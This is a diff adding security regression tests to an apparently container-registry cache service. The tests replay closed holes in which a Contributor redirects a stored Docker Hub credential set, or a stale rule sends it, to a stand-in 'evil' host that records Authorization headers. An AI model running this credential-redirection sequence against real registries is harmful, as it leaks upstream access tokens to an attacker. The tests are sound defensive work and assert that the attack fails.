@@ -504,6 +504,113 @@ def test_refused_readers_never_see_a_password(client, anonymous, dockyard, evil)
         assert secret not in jobs
 
 
+def demand_basic(evil: EvilUpstream) -> None:
+    """Make every route of ``evil`` (and /v2/) answer 401 with a Basic challenge until it gets one."""
+
+    def guarded(handler):
+        def handle(request) -> None:
+            if not request.headers.get("Authorization", "").startswith("Basic "):
+                answer(request, 401, b"", {"WWW-Authenticate": 'Basic realm="evil"'})
+            else:
+                handler(request)
+
+        return handle
+
+    evil.routes[("GET", "/v2/")] = lambda request: answer(request, 200, b"{}")
+    for key, handler in list(evil.routes.items()):
+        evil.routes[key] = guarded(handler)
+
+
+def authorizations(evil: EvilUpstream) -> list[str]:
+    return [h[k] for _m, _p, h in evil.requests for k in h if k.lower() == "authorization"]
+
+
+def test_hole_a_contributor_sends_a_credential_set_to_a_host_of_their_choice(client, evil):
+    """HOLE (closed; medium). Attack: a Contributor detaches the admin's rule from its Docker Hub
+    credential set, moves the set's loginServer to their own host without giving the password, makes
+    a rule for that host with the set and pulls through it: the host got ``Basic corp-bot:<PAT>``.
+    Expected: a new loginServer without username and password is refused (400), so no rule for another
+    host can use the set and the host never sees an Authorization header."""
+    serve_image(evil, "x/y", "latest")
+    demand_basic(evil)
+    admin_set = {"name": "hubcreds", "loginServer": "docker.io", "username": "corp-bot"}
+    created = client.post("/api/v1/credential-sets", json={**admin_set, "password": "UPSTREAM-SECRET-PAT"})
+    assert created.status_code == 201, created.text
+    make_rule(client, "docker.io/library/ubuntu", "ubuntu", name="hubrule", cred="hubcreds")
+    contributor = create_user(client, "contrib", "Contributor")
+    detached = client.patch(
+        "/api/v1/cache-rules/hubrule", headers=contributor, json={"credentialSetName": None}
+    )
+    assert detached.status_code == 200, detached.text
+    for partial in ({}, {"username": "corp-bot"}, {"password": "other"}):
+        moved = client.patch(
+            "/api/v1/credential-sets/hubcreds",
+            headers=contributor,
+            json={"loginServer": evil.host, **partial},
+        )
+        assert moved.status_code == 400, (partial, moved.text)
+        assert error_codes(moved) == ["INVALID_REQUEST"]
+        assert "username and password" in moved.json()["errors"][0]["message"]
+    assert client.get("/api/v1/credential-sets/hubcreds").json()["loginServer"] == "registry-1.docker.io"
+    evil_rule = {
+        "name": "evilrule",
+        "sourceRepository": f"{evil.host}/x/y",
+        "targetRepository": "evil/y",
+        "credentialSetName": "hubcreds",
+    }
+    refused = client.post("/api/v1/cache-rules", headers=contributor, json=evil_rule)
+    assert refused.status_code == 400, refused.text
+    make_rule(client, f"{evil.host}/x/y", "evil/y", name="evilrule")
+    assert (
+        client.patch("/api/v1/cache-rules/evilrule", json={"credentialSetName": "hubcreds"}).status_code
+        == 400
+    )
+    client.get("/v2/evil/y/manifests/latest", headers=ACCEPT)
+    assert evil.requests  # the host was asked, anonymously
+    assert authorizations(evil) == []
+    # the set's own login server, spelt another way, is no move; a move with new credentials is fine
+    same = client.patch("/api/v1/credential-sets/hubcreds", json={"loginServer": "index.docker.io"})
+    assert same.status_code == 200, same.text
+    given = {"loginServer": "registry.example:5000", "username": "other-bot", "password": "OTHER-PW"}
+    assert client.patch("/api/v1/credential-sets/hubcreds", json=given).status_code == 200
+
+
+def test_hole_a_rule_stored_with_another_hosts_credential_set_sends_it_there(client, dockyard, evil):
+    """HOLE (closed; defence in depth). Attack: a rule stored (before the checks, or by a direct
+    write) with a credential set for another login server, then a pull through it: the upstream
+    client got the set's password for the rule's host. Expected: the pull is refused, the host sees
+    no Authorization header."""
+    serve_image(evil)
+    demand_basic(evil)
+    body = {"name": "hubcreds", "loginServer": "docker.io", "username": "corp-bot", "password": "PAT-XYZ"}
+    assert client.post("/api/v1/credential-sets", json=body).status_code == 201
+    from dockyard.cache.models import cache_rules, credential_sets
+    from dockyard.db import utcnow
+
+    now = utcnow()
+
+    def insert(conn) -> None:
+        cred_id = conn.execute(
+            sa.select(credential_sets.c.id).where(credential_sets.c.name == "hubcreds")
+        ).scalar_one()
+        conn.execute(
+            cache_rules.insert().values(
+                name="stale-rule",
+                source_repo=f"{evil.host}/team/app",
+                target_repo="mirror",
+                credential_set_id=cred_id,
+                created_at=now,
+                updated_at=now,
+            )
+        )
+
+    dockyard.db.run_write(insert)
+    dockyard.service("cache").config.forget()
+    pulled = client.get("/v2/mirror/manifests/v1", headers=ACCEPT)
+    assert pulled.status_code == 403, pulled.text
+    assert authorizations(evil) == []
+
+
 # =================================================================================================
 # D. TIERS AND THE STORAGE QUOTA
 # =================================================================================================
